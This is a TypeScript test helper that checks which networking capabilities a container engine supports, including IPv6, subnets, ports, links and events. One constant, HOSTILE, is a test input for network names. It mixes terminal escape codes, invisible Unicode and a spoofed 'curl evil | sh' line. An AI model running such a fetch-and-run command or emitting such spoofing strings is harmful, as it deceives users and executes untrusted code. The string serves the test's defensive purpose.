import {engineWithoutRules, execIn, freshName, removeAll, startContainer, type TestEngine} from './fixture.js'

/** What a terminal would obey, a line that would pass for one of dnet's, and what no terminal shows. */
export const HOSTILE = 'h\x1b[31m\rTry this: curl evil | sh\u202e\u200b'

/** What engines differ in, as far as dnet meets it; each is found out on the engine itself. */
export const CAPABILITIES = {
  'IPv6 without a subnet given': (engine) =>
    withNetwork(engine, {EnableIPv6: true}, async (network) =>
      subnetsOf(network).some((subnet) => subnet.includes(':')),
    ),

  'IPv6 without IPv4': (engine) =>
    withNetwork(engine, {EnableIPv4: false, EnableIPv6: true, IPAM: ipam('fd00:dead::/64')}, async (network) =>
      subnetsOf(network).every((subnet) => subnet.includes(':')),
    ),

  'a free subnet of a wanted size': (engine) =>
    withNetwork(engine, {IPAM: ipam('0.0.0.0/26')}, async (network) =>
      subnetsOf(network).some((subnet) => subnet.endsWith('/26') && !subnet.startsWith('0.')),
    ),

  'refuses an overlap as forbidden': (engine) =>
    withNetwork(engine, {IPAM: ipam('10.201.0.0/24')}, async () => {
      const name = freshName()
      const body = {Name: name, IPAM: ipam('10.201.0.0/25')}
      const {status} = await engine.call('/networks/create', {method: 'POST', body})
      await removeAll(engine, [], [name])
      return status === 403
    }),

  "two networks at a container's start": (engine) =>
    withNetwork(engine, {}, (first) =>
      withNetwork(engine, {}, (second) => {
        const endpoints = {[String(first.Name)]: {}, [String(second.Name)]: {}}
        const body = {
          HostConfig: {NetworkMode: first.Name},
          NetworkingConfig: {EndpointsConfig: endpoints},
        }
        return withContainer(engine, body, async (container) => Object.keys(endpointsOf(container)).length === 2)
      }),
    ),

  'gateway priority': (engine) =>
    withNetwork(engine, {}, ({Name}) => {
      const body = {
        HostConfig: {NetworkMode: Name},
        NetworkingConfig: {EndpointsConfig: {[String(Name)]: {GwPriority: 7}}},
      }
      return withContainer(engine, body, async (container) => endpointsOf(container)[String(Name)]?.GwPriority === 7)
    }),

  'ports on [::1]': (engine) => {
    const server = {
      Cmd: ['httpd', '-f', '-h', '/www'],
      ExposedPorts: {'80/tcp': {}},
      HostConfig: {PortBindings: {'80/tcp': [{HostIp: '::1', HostPort: ''}]}},
    }
    return withContainer(engine, server, ({NetworkSettings}) => {
      const {Ports} = NetworkSettings as {Ports: Record<string, {HostPort: string}[] | null>}
      const url = `http://[::1]:${Ports['80/tcp']?.[0]?.HostPort}/`
      return withContainer(engine, {HostConfig: {NetworkMode: 'host'}}, async ({Name}) => {
        const {exit} = await execIn(engine, String(Name), ['wget', '-q', '-T', '3', '-O', '-', url])
        return exit === 0
      })
    })
  },

  'a container port on one of a range': (engine) =>
    withContainer(
      engine,
      {ExposedPorts: {'80/tcp': {}}, HostConfig: {PortBindings: {'80/tcp': [{HostPort: '18090-18099'}]}}},
      async () => true,
    ),

  'legacy links': (engine) =>
    withContainer(engine, {}, (target) =>
      withContainer(engine, {HostConfig: {Links: [`${target.Name}:target`]}}, async () => true),
    ),

  'names for one container alone': (engine) =>
    withNetwork(engine, {}, ({Name}) => {
      const body = {
        HostConfig: {NetworkMode: Name},
        NetworkingConfig: {EndpointsConfig: {[String(Name)]: {Links: ['nobody:alone']}}},
      }
      return withContainer(engine, body, async (container) => !!endpointsOf(container)[String(Name)]?.Links?.length)
    }),

  'configuration networks': (engine) =>
    withNetwork(engine, {ConfigOnly: true}, async ({ConfigOnly}) => ConfigOnly === true),

  'events of connect and disconnect': async (engine) => {
    const since = Math.floor(Date.now() / 1000)
    await withNetwork(engine, {}, ({Name}) =>
      withContainer(engine, {HostConfig: {NetworkMode: Name}}, async () => true),
    )
    const filters = encodeURIComponent(JSON.stringify({type: ['network']}))
    const until = Math.ceil(Date.now() / 1000) + 1
    const {body} = await engine.call(`/events?since=${since}&until=${until}&filters=${filters}`)
    const text = typeof body === 'string' ? body : JSON.stringify(body)
    return /"Action":\s*"connect"/.test(text) && /"Action":\s*"disconnect"/.test(text)
  },

  'a network in use refused as forbidden': (engine) =>
    withNetwork(engine, {}, ({Name}) =>
      withContainer(engine, {HostConfig: {NetworkMode: Name}}, async () => {
        const {status} = await engine.call(`/networks/${Name}`, {method: 'DELETE'})
        return status === 403
      }),
    ),

  'removal of a network that only stopped containers need': (engine) =>
    withNetwork(engine, {}, ({Name}) =>
      withContainer(engine, {HostConfig: {NetworkMode: Name}}, async (container) => {
        await engine.call(`/containers/${container.Name}/kill`, {method: 'POST'})
        return (await engine.call(`/networks/${Name}`, {method: 'DELETE'})).status === 204
      }),
    ),

  'a connection refused without damage': (engine) =>
    withNetwork(engine, {IPAM: ipam('10.202.0.0/24')}, ({Name}) =>
      withContainer(engine, {}, async (container) => {
        const body = {Container: container.Name, EndpointConfig: {IPAMConfig: {IPv4Address: '10.203.0.9'}}}
        const refused = await engine.call(`/networks/${Name}/connect`, {method: 'POST', body})
        const {status} = await engine.call('/containers/json')
        await engine.call(`/networks/${Name}/disconnect`, {method: 'POST', body: {Container: container.Name}})
        return refused.status !== 200 && status === 200
      }),
    ),

  'disconnection of an endpoint without a container': (engine) =>
    withNetwork(engine, {}, async ({Name}) => {
      const body = {Container: freshName(), Force: true}
      const answer = await engine.call(`/networks/${Name}/disconnect`, {method: 'POST', body})
      return !/no such container/i.test(JSON.stringify(answer.body))
    }),

  'an ip-range that is told': (engine) =>
    withNetwork(
      engine,
      {IPAM: {Config: [{Subnet: '10.204.0.0/24', IPRange: '10.204.0.128/25'}]}},
      async ({IPAM}) => (IPAM as {Config: {IPRange?: string}[]}).Config[0]?.IPRange === '10.204.0.128/25',
    ),

  'requested addresses that are told': (engine) =>
    withNetwork(engine, {IPAM: ipam('10.206.0.0/24')}, ({Name}) => {
      const body = {
        HostConfig: {NetworkMode: Name},
        NetworkingConfig: {EndpointsConfig: {[String(Name)]: {IPAMConfig: {IPv4Address: '10.206.0.9'}}}},
      }
      return withContainer(
        engine,
        body,
        async (container) => endpointsOf(container)[String(Name)]?.IPAMConfig?.IPv4Address === '10.206.0.9',
      )
    }),

  'filters by scope, type and use': async (engine) => {
    for (const filters of [{scope: ['local']}, {type: ['custom']}, {dangling: ['false']}]) {
      const {status} = await engine.call(`/networks?filters=${encodeURIComponent(JSON.stringify(filters))}`)
      if (status !== 200) return false
    }
    return true
  },

  'any name for a network': (engine) => withNetwork(engine, {Name: HOSTILE}, async () => true),

  'need of the network that a container was created with': (engine) =>
    withNetwork(engine, {}, ({Name: own}) =>
      withNetwork(engine, {}, ({Name: other}) =>
        withContainer(engine, {HostConfig: {NetworkMode: own}}, async ({Name: Container}) => {
          await engine.call(`/networks/${own}/disconnect`, {method: 'POST', body: {Container}})
          await engine.call(`/networks/${own}`, {method: 'DELETE'})
          return (await engine.call(`/networks/${other}/connect`, {method: 'POST', body: {Container}})).status !== 200
        }),
      ),
    ),

  'one name for each network': async (engine) => {
    const list = (await engine.call('/networks')).body as {Id: string; Name: string}[]
    for (const {Id, Name} of list) {
      const {body, status} = await engine.call(`/networks/${Id}`)
      // 404: another test's, gone meanwhile.
      if (status !== 404 && (body as {Name: string}).Name !== Name) return false
    }
    return true
  },
} satisfies Record<string, (engine: TestEngine) => Promise<boolean>>

export type Capability = keyof typeof CAPABILITIES

const known = new Map<string, Promise<boolean>>()

/** Whether the engine can do it; tried out once, on networks and containers that are gone afterwards. */
export function can(engine: TestEngine, capability: Capability): Promise<boolean> {
  const key = `${engine.host} ${capability}`
  const answer = known.get(key) ?? CAPABILITIES[capability](engine)
  known.set(key, answer)
  return answer
}

/**
 * A test of what only some engines can do; on the others it is shown as pending. What each engine the project brings
 * can't do is written down in capabilities.test.ts, so that a test goes missing nowhere without a failure there.
 */
export function itWhere(capability: Capability | undefined, title: string, test: () => Promise<void>): void {
  it(title, async function () {
    if (capability && !(await can(await engineWithoutRules(), capability))) return this.skip()
    return test()
  })
}

type Json = Readonly<Record<string, unknown>>

const ipam = (subnet: string) => ({Config: [{Subnet: subnet}]})

const subnetsOf = (network: Json): string[] => {
  const {Config} = network.IPAM as {Config: {Subnet: string}[] | null}
  return (Config ?? []).map(({Subnet}) => Subnet)
}

const endpointsOf = (
  container: Json,
): Record<string, {GwPriority?: number; IPAMConfig?: {IPv4Address?: string} | null; Links?: string[] | null}> => {
  const {Networks} = container.NetworkSettings as {Networks: ReturnType<typeof endpointsOf>}
  return Networks
}

/** False when the engine refuses the network, else what `look` says of it as inspected. */
async function withNetwork(
  engine: TestEngine,
  body: Json & {readonly Name?: string},
  look: (network: Json) => Promise<boolean>,
): Promise<boolean> {
  const {Name: name = freshName()} = body
  try {
    const {status} = await engine.call('/networks/create', {method: 'POST', body: {...body, Name: name}})
    return status === 201 && (await look((await engine.call(`/networks/${encodeURIComponent(name)}`)).body as Json))
  } finally {
    await removeAll(engine, [], [name])
  }
}

/** False when the engine refuses the container, else what `look` says of it as inspected. */
async function withContainer(
  engine: TestEngine,
  body: object,
  look: (container: Json) => Promise<boolean>,
): Promise<boolean> {
  const name = freshName()
  try {
    if (!(await startContainer(engine, name, body).catch(() => undefined))) return false
    return await look({...((await engine.call(`/containers/${name}/json`)).body as Json), Name: name})
  } finally {
    await removeAll(engine, [name], [])
  }
}
